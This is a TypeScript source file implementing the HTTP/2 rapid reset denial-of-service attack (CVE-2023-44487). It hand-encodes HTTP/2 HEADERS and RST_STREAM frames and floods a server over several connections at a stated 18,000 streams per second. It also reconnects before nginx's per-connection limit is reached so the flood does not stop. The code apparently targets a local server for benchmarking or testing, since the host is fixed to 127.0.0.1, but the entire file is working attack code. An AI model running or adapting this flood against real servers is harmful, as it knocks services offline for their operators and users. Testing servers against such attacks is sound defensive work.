import { connect } from "node:net";

const HEADERS = 1;
const RESET = 3;
const SETTINGS = 4;
const END_OF_STREAM_AND_HEADERS = 5;
const CANCEL = Buffer.of(0, 0, 0, 8);
/** Streams per write, and the pause between writes: eight connections come to 18,000 streams/s. */
const BATCH = 64;
const PAUSE_MS = 28;
/** nginx closes a connection after a number of requests. Before that, the client opens another connection. */
const STREAMS_PER_CONNECTION = 900;

/**
 * HTTP/2 rapid reset (CVE-2023-44487): each stream requests `path`, and the same write resets the stream.
 *
 * @param onStreams called with the number of sent streams.
 */
export function floodWithResets(
  port: number,
  from: string,
  path: string,
  connections: number,
  onStreams: (count: number) => void,
): void {
  for (let index = 0; index < connections; index += 1) {
    open();
  }

  function open(): void {
    const socket = connect({ port, host: "127.0.0.1", localAddress: from });
    const block = encodeFields([":method", "GET", ":scheme", "http", ":path", path, ":authority", "bench"]);
    let stream = 1;
    socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    socket.write(encodeFrame(SETTINGS, 0, 0, Buffer.alloc(0)));
    socket.resume();
    socket.on("error", () => {});
    const timer = setInterval(() => {
      const frames: Buffer[] = [];
      for (let sent = 0; sent < BATCH; sent += 1) {
        frames.push(
          encodeFrame(HEADERS, END_OF_STREAM_AND_HEADERS, stream, block),
          encodeFrame(RESET, 0, stream, CANCEL),
        );
        stream += 2;
      }
      if (!socket.writableNeedDrain) {
        socket.write(Buffer.concat(frames));
        onStreams(BATCH);
      }
      if (stream > 2 * STREAMS_PER_CONNECTION) {
        socket.end();
      }
    }, PAUSE_MS);
    socket.on("close", () => {
      clearInterval(timer);
      setTimeout(open, PAUSE_MS);
    });
  }
}

/** Literal fields without indexing (RFC 7541 section 6.2.2). */
function encodeFields(fields: readonly string[]): Buffer {
  const texts = fields.map((text) => Buffer.concat([Buffer.of(text.length), Buffer.from(text)]));
  return Buffer.concat(texts.flatMap((text, index) => (index % 2 === 0 ? [Buffer.of(0), text] : [text])));
}

function encodeFrame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
